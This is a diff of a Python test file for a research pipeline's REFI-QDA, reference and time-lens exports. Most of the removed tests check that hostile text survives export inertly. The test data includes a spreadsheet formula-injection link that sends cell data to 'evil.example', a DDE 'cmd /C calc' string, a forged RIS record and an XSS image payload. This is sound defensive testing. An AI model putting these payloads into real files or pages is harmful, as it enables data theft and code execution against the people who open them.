@@ -1,6 +1,6 @@
-"""Hand-offs (#25): the REFI-QDA project and codebook, and the reference lists, read back by
-maintained third-party readers (pyrefiqda's schema-generated REFI-QDA models, rispy,
-bibtexparser), on a small store with hostile text and on the bundled corpus."""
+"""Hand-offs (#25): the REFI-QDA project and codebook, read back by pyrefiqda (models generated
+from the standard's schema) and by ElementTree, on a small store with hostile text and on the
+bundled corpus (with the references and the time lens)."""
 
 from __future__ import annotations
 
@@ -12,99 +12,18 @@ from pathlib import Path
 import pytest
 
 from pipelines import store
-from pipelines.analysis.results import annotate_theme, rename_theme, themes_with_edits
-from pipelines.analysis.run import run_analysis
+from pipelines.analysis.results import themes_with_edits
 from pipelines.cli import main
-from pipelines.embed.embedders import HashEmbedder, embed_missing
 from pipelines.handoff.common import xml_text
-from pipelines.ingest.files import ingest_paths
+from tests.handoff_store import HOSTILE_TEXTS, HOSTILE_TITLE, ROOT, build_small
+from tests.handoff_store import export_file as _export
 
-ROOT = Path(__file__).resolve().parent.parent
 NS = {"q": "urn:QDA-XML:project:1.0"}
-PER_FIELD = 24
-HOSTILE_TITLE = '=HYPERLINK("http://evil.example","x") <b>Recovery</b> & "desistance" {50%} \\o/'
-HOSTILE_TEXTS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click") recovery means hope & <identity> ]]>',
-    "+cmd|' /C calc'!A0 recovery housing work {braces} and 100% of #people",
-    "@SUM(1+1) peer support \U0001f600 with an emoji and a quote's end",
-]
-# Written into the store directly: ingest drops control characters, but a store filled by
-# another route (or an older version) may hold them, and XML cannot.
-CONTROL_TEXT = "control\x01characters\x0b in\x1f text\r\nacross a CRLF recovery"
-
-
-def _small_corpus(folder: Path) -> tuple[Path, Path]:
-    """The first excerpts of each field of the bundled corpus, their sources, and a hostile source."""
-    with open(ROOT / "corpus" / "excerpts.csv", encoding="utf-8", newline="") as handle:
-        rows = list(csv.DictReader(handle))
-    kept, per_field = [], {}
-    for row in rows:
-        if per_field.get(row["field"], 0) < PER_FIELD:
-            per_field[row["field"]] = per_field.get(row["field"], 0) + 1
-            kept.append(row)
-    for i, text in enumerate(HOSTILE_TEXTS):
-        kept.append(
-            {
-                "id": f"=evil{i}",
-                "source_id": "evil",
-                "field": "criminal_justice",
-                "kind": "",
-                "page": "",
-                "text": text,
-            }
-        )
-    with open(ROOT / "corpus" / "sources.csv", encoding="utf-8", newline="") as handle:
-        reader = csv.DictReader(handle)
-        columns = reader.fieldnames
-        wanted = {r["source_id"] for r in kept}
-        sources = [r for r in reader if r["source_id"] in wanted]
-    sources.append(
-        {c: "" for c in columns}
-        | {
-            "source_id": "evil",
-            "authors": "=Evil, A.; O'Brien, B. & {Co}; Evil Corp & Sons",
-            "year": "2020",
-            "title": HOSTILE_TITLE,
-            "venue": "@Journal <of> Tests",
-            "evidence_type": "grey",
-        }
-    )
-    excerpts_path, sources_path = folder / "excerpts.csv", folder / "sources.csv"
-    for path, fieldnames, data in (
-        (excerpts_path, list(kept[0]), kept),
-        (sources_path, columns, sources),
-    ):
-        with open(path, "w", encoding="utf-8", newline="") as handle:
-            writer = csv.DictWriter(handle, fieldnames=fieldnames)
-            writer.writeheader()
-            writer.writerows(data)
-    return excerpts_path, sources_path
 
 
 @pytest.fixture(scope="module")
 def small(tmp_path_factory):
-    """A small built store: a few bundled excerpts per field, a hostile source, a renamed theme
-    with a hostile note, and one excerpt holding control characters."""
-    folder = tmp_path_factory.mktemp("handoff")
-    path = folder / "store.sqlite"
-    conn = store.connect(path)
-    excerpts_path, sources_path = _small_corpus(folder)
-    ingest_paths(conn, [excerpts_path], sources_path=sources_path)
-    embedder = HashEmbedder()
-    embed_missing(conn, embedder)
-    run_analysis(conn, embedder=embedder, frameworks=None, seed=3)
-    theme = themes_with_edits(conn)[0][0]
-    rename_theme(conn, theme.key, "=SUM(A1) <renamed> & \x02")
-    annotate_theme(conn, theme.key, 'Note with <xml> & "quotes" ]]> =HYPERLINK("x")')
-    target = conn.execute("SELECT id FROM excerpts ORDER BY id LIMIT 1").fetchone()[0]
-    with store.transaction(conn):
-        conn.execute("UPDATE excerpts SET text = ? WHERE id = ?", (CONTROL_TEXT, target))
-    return path
-
-
-def _export(db: Path, what: str, out: Path, *extra: str) -> Path:
-    assert main(["export", what, "--db", str(db), "--out", str(out), *extra]) == 0
-    return out
+    return build_small(tmp_path_factory)
 
 
 def _selections(qdpx: Path) -> dict[str, tuple[str, list[str]]]:
@@ -256,70 +175,6 @@ def _the_other_hand_offs_read_back(db: Path, tmp_path: Path, n_sources: int) -> 
     assert sums.round(9).eq(1).all()
 
 
-def _sources(db: Path) -> dict[str, dict]:
-    """Each source's title -> its row as the store holds it."""
-    frame = store.excerpts(store.connect(db)).drop_duplicates("source_id")
-    return {row["title"]: row for row in frame.to_dict("records")}
-
-
-def test_references_read_back_with_rispy(small, tmp_path):
-    import rispy
-
-    out = _export(small, "references", tmp_path / "refs.ris", "--format", "ris")
-    entries = rispy.loads(out.read_text(encoding="utf-8"))
-    sources = _sources(small)
-    assert len(entries) == len(sources)
-    by_title = {e["title"]: e for e in entries}
-    assert set(by_title) == {" ".join(t.split()) for t in sources}
-    evil = by_title[HOSTILE_TITLE]  # formula prefix, markup and braces kept as they are
-    assert evil["authors"] == ["=Evil, A.", "O'Brien, B. & {Co}", "Evil Corp & Sons"]
-    assert evil["year"] == "2020"
-    assert "evidence: Grey literature" in evil["keywords"]
-    assert "field: Criminal justice" in evil["keywords"]
-    for entry in entries:
-        row = sources[next(t for t in sources if " ".join(t.split()) == entry["title"])]
-        assert entry.get("doi", "") == (row["doi"] or "")
-
-
-def test_references_read_back_with_bibtexparser(small, tmp_path):
-    import bibtexparser
-    from bibtexparser.middlewares import LatexDecodingMiddleware
-
-    out = _export(small, "references", tmp_path / "refs.bib")
-    library = bibtexparser.parse_string(
-        out.read_text(encoding="utf-8"), append_middleware=[LatexDecodingMiddleware()]
-    )
-    assert not library.failed_blocks
-    sources = _sources(small)
-    assert len(library.entries) == len(sources)
-    assert len({e.key for e in library.entries}) == len(sources)
-    by_title = {e["title"]: e for e in library.entries}
-    evil = by_title[HOSTILE_TITLE]
-    assert evil.entry_type == "techreport"
-    assert evil["author"] == "=Evil, A. and O'Brien, B. & {Co} and Evil Corp & Sons"
-    assert evil["institution"] == "@Journal <of> Tests"
-    # An organisation is braced, so BibTeX keeps it whole instead of taking "Sons" for a surname.
-    assert r"and {Evil Corp \& Sons}}" in out.read_text(encoding="utf-8")
-
-
-def test_a_line_break_in_a_title_cannot_end_a_reference(small, tmp_path):
-    import rispy
-
-    copy = tmp_path / "copy.sqlite"
-    store.connect(small).execute(f"VACUUM INTO '{copy}'")
-    conn = store.connect(copy)
-    with store.transaction(conn):
-        conn.execute(
-            "UPDATE sources SET title = ? WHERE title = ?",
-            ("Injected\nER  - \nTY  - JOUR\nTI  - forged\x07", HOSTILE_TITLE),
-        )
-    entries = rispy.loads(
-        _export(copy, "references", tmp_path / "r.ris").read_text(encoding="utf-8")
-    )
-    assert len(entries) == len(_sources(small))
-    assert "Injected ER - TY - JOUR TI - forged" in [e["title"] for e in entries]
-
-
 NVIVO_CODEBOOK = """<?xml version="1.0" encoding="utf-8"?>
 <CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="NVivo 14">
  <Codes>
@@ -433,56 +288,3 @@ def test_a_malformed_qdc_is_a_clear_error_and_changes_nothing(
     err = capsys.readouterr().err
     assert "E026" in err and "bad.qdc" in err and fragment in err, err
     assert dump(small) == before
-
-
-def test_the_time_lens_counts_shares_per_field_and_period_and_marks_small_cells():
-    import pandas as pd
-
-    from pipelines.handoff.timelens import Item, share_table
-
-    # Field a: 12 excerpts in 2010-2014 (3 in the theme), 2 in 2015-2019 (both in it);
-    # field b: 10 in 2012 (none in it); one undated excerpt in b.
-    years = [2010] * 12 + [2016] * 2 + [2012] * 10 + [None]
-    fields = ["a"] * 14 + ["b"] * 11
-    facets = pd.DataFrame({"excerpt_id": range(25), "field": fields, "year": years})
-    theme = Item("theme", "B1", "Hope", {0, 1, 2, 12, 13, 24})
-    table = share_table(facets, [theme], field_labels={"a": "<A>"}, min_excerpts=10)
-    cells = {(r.field, r.period): r for r in table.itertuples()}
-    assert set(cells) == {("a", "2010-2014"), ("a", "2015-2019"), ("b", "2010-2014")}
-    assert (cells["a", "2010-2014"].count, cells["a", "2010-2014"].excerpts) == (3, 12)
-    assert cells["a", "2010-2014"].share == pytest.approx(0.25)
-    assert cells["a", "2015-2019"].share == 1.0 and cells["a", "2015-2019"].small
-    assert cells["b", "2010-2014"].share == 0.0 and not cells["b", "2010-2014"].small
-    assert cells["b", "2010-2014"].undated == 1 and cells["a", "2010-2014"].field_label == "<A>"
-
-
-def test_the_time_lens_figure_draws_no_trend_through_small_cells():
-    import pandas as pd
-
-    from pipelines.handoff.timelens import Item, lens_figure, share_table
-
-    years = [2000] * 10 + [2005] * 2 + [2010] * 10
-    facets = pd.DataFrame({"excerpt_id": range(22), "field": ["f"] * 22, "year": years})
-    label = "<img src=x onerror=alert(1)> %{x}"
-    table = share_table(facets, [Item("theme", "B1", "T", {0, 10})], field_labels={"f": label})
-    figure = lens_figure(table, "B1")
-    line, hollow = figure.data
-    assert list(line.y)[1] is None or pd.isna(list(line.y)[1])  # the gap: no trend through it
-    assert list(hollow.x) == ["2005-2009"] and hollow.marker.symbol == "circle-open"
-    for trace in figure.data:
-        assert "<img" not in trace.hovertemplate and "%{x}</extra>" not in trace.hovertemplate
-
-
-def test_the_time_lens_export_covers_every_dated_excerpt(small, tmp_path):
-    import pandas as pd
-
-    out = _export(small, "timelens", tmp_path / "lens.csv")
-    table = pd.read_csv(out)
-    themes = table[table["dimension"] == "theme"]
-    # Each excerpt is in exactly one broad theme: a cell's theme shares add up to one.
-    sums = themes.groupby(["field", "period"])["share"].sum()
-    assert sums.round(9).eq(1).all()
-    facets = store.excerpt_facets(store.connect(small))
-    cells = themes.drop_duplicates(["field", "period"])["excerpts"].sum()
-    assert cells == facets["year"].notna().sum()
-    assert {"theme", "concept"} == set(table["dimension"])
